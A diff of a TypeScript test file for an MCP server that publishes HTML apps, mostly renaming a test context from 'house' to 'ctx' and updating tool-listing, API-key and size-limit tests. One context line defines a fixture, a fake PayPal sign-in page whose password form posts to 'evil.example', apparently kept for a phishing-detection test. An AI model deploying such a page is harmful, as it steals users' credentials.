@@ -4,33 +4,33 @@ import { Ajv2020 } from 'ajv/dist/2020.js'
 
 import type { Operation } from '../core/operations.ts'
 import { documentOf, operationsOf } from '../testing/described.ts'
-import { openTestHouse, type Person, type TestHouse } from '../testing/house.ts'
 import { callTool, type ListedTool, listTools, post, send } from '../testing/mcp.ts'
+import { openTestHouse, type Person, type TestHouse } from '../testing/test-server.ts'
 import { shownOf } from './shown.ts'
 import { toolsOf } from './tools.ts'
 
-let house: TestHouse
+let ctx: TestHouse
 let ann: Person
 let tools: ListedTool[]
 beforeAll(async () => {
-  house = await openTestHouse()
-  ann = await house.person('ann')
-  tools = await listTools(house)
+  ctx = await openTestHouse()
+  ann = await ctx.person('ann')
+  tools = await listTools(ctx)
 })
-afterAll(() => house.close())
+afterAll(() => ctx.close())
 
 const page = '<!doctype html><title>Tide</title><h1>Tide</h1>'
 
 describe('the list', () => {
   test('follows the description: names, summaries, at most 35, each time the same', async () => {
     const operations = new Map(
-      operationsOf(await documentOf(house)).map((operation) => [operation.operationId, operation]),
+      operationsOf(await documentOf(ctx)).map((operation) => [operation.operationId, operation]),
     )
     for (const { name, description } of tools) {
       expect(description).toStartWith(operations.get(name)?.summary ?? 'not of the description')
     }
     expect(tools.length).toBeLessThanOrEqual(35)
-    expect(await listTools(house)).toEqual(tools)
+    expect(await listTools(ctx)).toEqual(tools)
     const names = tools.map(({ name }) => name)
     expect(new Set(names).size).toBe(names.length)
     for (const file of ['export_app', 'get_asset', 'look_at_asset', 'watch_job', 'get_openapi']) {
@@ -39,7 +39,7 @@ describe('the list', () => {
   })
 
   test('has a core of eleven', async () => {
-    const names = (await listTools(house, '?tools=core')).map(({ name }) => name)
+    const names = (await listTools(ctx, '?tools=core')).map(({ name }) => name)
     expect(names).toEqual([
       'start',
       'new_agent',
@@ -80,16 +80,16 @@ describe('the list', () => {
   })
 
   test('shows one area, or everything for an area that is none', async () => {
-    const names = (await listTools(house, '?tools=assets')).map(({ name }) => name)
+    const names = (await listTools(ctx, '?tools=assets')).map(({ name }) => name)
     expect(names).toContain('put_asset')
     expect(names).not.toContain('get_me')
-    expect(await listTools(house, '?tools=nothing')).toEqual(tools)
+    expect(await listTools(ctx, '?tools=nothing')).toEqual(tools)
   })
 
   test('has, area by area, all of an agent but streams and files, as the docs say', async () => {
-    const operations = operationsOf(await documentOf(house))
+    const operations = operationsOf(await documentOf(ctx))
     const areas = new Set(operations.map(({ tags }) => String(tags[0]).toLowerCase()))
-    const lists = [...areas].map((area) => listTools(house, `?tools=${area.replaceAll(' ', '-')}`))
+    const lists = [...areas].map((area) => listTools(ctx, `?tools=${area.replaceAll(' ', '-')}`))
     const named = new Set((await Promise.all(lists)).flat().map(({ name }) => name))
     const others = operations.filter(
       ({ operationId, security }) =>
@@ -104,8 +104,8 @@ describe('the list', () => {
         undefined,
       ])
     }
-    const said = await house.visit('GET', '/docs', { headers: { accept: 'text/html' } })
-    for (const { body } of [said, await house.call('GET', '/')]) {
+    const said = await ctx.visit('GET', '/docs', { headers: { accept: 'text/html' } })
+    for (const { body } of [said, await ctx.call('GET', '/')]) {
       const text = typeof body === 'string' ? body : JSON.stringify(body)
       expect(text).toContain('but for those that answer with a stream or a file')
     }
@@ -168,7 +168,7 @@ describe('a call', () => {
       ['list_versions', `/apps/${id}/versions`],
     ] as const) {
       const { body } = await ann.call('GET', path)
-      const { structuredContent, content, isError } = await callTool(house, name, {
+      const { structuredContent, content, isError } = await callTool(ctx, name, {
         id,
         key: ann.key,
       })
@@ -176,7 +176,7 @@ describe('a call', () => {
       expect(JSON.parse(content[0]?.text ?? '')).toEqual(body)
       expect(isError).toBeUndefined()
     }
-    const { structuredContent, content } = await callTool(house, 'get_html', { id, key: ann.key })
+    const { structuredContent, content } = await callTool(ctx, 'get_html', { id, key: ann.key })
     expect(structuredContent).toEqual({ html: page })
     expect(content).toEqual([{ type: 'text', text: page }])
   })
@@ -191,7 +191,7 @@ describe('a call', () => {
       const known = Object.entries(args).filter(([field]) => properties.includes(field))
       if (!annotations['readOnlyHint'] && name !== 'publish_version') continue
       if (!required.every((field) => known.some(([own]) => own === field))) continue
-      const { structuredContent } = await callTool(house, name, Object.fromEntries(known))
+      const { structuredContent } = await callTool(ctx, name, Object.fromEntries(known))
       const fits = ajv.compile(outputSchema)
       expect([name, fits(structuredContent), fits.errors]).toEqual([name, true, null])
     }
@@ -199,10 +199,10 @@ describe('a call', () => {
 
   test('takes its key as a header or as an argument, which wins; nowhere else', async () => {
     const me = async (...[args, message]: [unknown?, Parameters<typeof send>[3]?]) => {
-      const { structuredContent } = await callTool(house, 'get_me', args, message)
+      const { structuredContent } = await callTool(ctx, 'get_me', args, message)
       return structuredContent['handle'] ?? structuredContent['code']
     }
-    const ben = await house.person('ben')
+    const ben = await ctx.person('ben')
     expect(await me({ key: ann.key })).toBe(ann.handle)
     expect(await me({}, { key: ann.key })).toBe(ann.handle)
     expect(await me({}, { headers: { 'x-api-key': ann.key } })).toBe(ann.handle)
@@ -215,7 +215,7 @@ describe('a call', () => {
 
   test('takes a flag as a boolean', async () => {
     for (const unread of [true, false]) {
-      const { structuredContent } = await callTool(house, 'list_notes', { unread, key: ann.key })
+      const { structuredContent } = await callTool(ctx, 'list_notes', { unread, key: ann.key })
       expect(structuredContent).toMatchObject({ notes: [], next: null })
     }
   })
@@ -232,7 +232,7 @@ describe('a call', () => {
     ] as const
     for (const [name, args, method, path, body] of cases) {
       const rest = await ann.call(method, path, body)
-      const { isError, structuredContent } = await callTool(house, name, args, { key: ann.key })
+      const { isError, structuredContent } = await callTool(ctx, name, args, { key: ann.key })
       expect([name, isError, structuredContent['code']]).toEqual([name, true, rest.code ?? ''])
       if (rest.code !== 'bad_request') expect(structuredContent).toEqual(Object(rest.body))
     }
@@ -240,7 +240,7 @@ describe('a call', () => {
 
   test('makes a page as large as one may be, and larger is refused', async () => {
     const filler = (bytes: number) => page + ' '.repeat(bytes - page.length)
-    const publish = (html: string) => callTool(house, 'publish_app', { html, key: ann.key })
+    const publish = (html: string) => callTool(ctx, 'publish_app', { html, key: ann.key })
     expect((await publish(filler(4 * 1_048_576))).isError).toBeUndefined()
     expect((await publish(filler(4 * 1_048_576 + 1))).structuredContent['code']).toBe('too_large')
   })
@@ -262,7 +262,7 @@ const steal =
   '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'
 
 test('both eras are spoken at one address', async () => {
-  const { message } = await post(house, {
+  const { message } = await post(ctx, {
     jsonrpc: '2.0',
     id: 1,
     method: 'initialize',
@@ -275,7 +275,7 @@ test('both eras are spoken at one address', async () => {
   expect(message).toMatchObject({
     result: { protocolVersion: '2024-11-05', serverInfo: { name: 'berth' } },
   })
-  const { body } = await send(house, 'server/discover')
+  const { body } = await send(ctx, 'server/discover')
   expect(body).toMatchObject({
     result: { supportedVersions: ['2026-07-28'], instructions: expect.stringContaining('start') },
   })
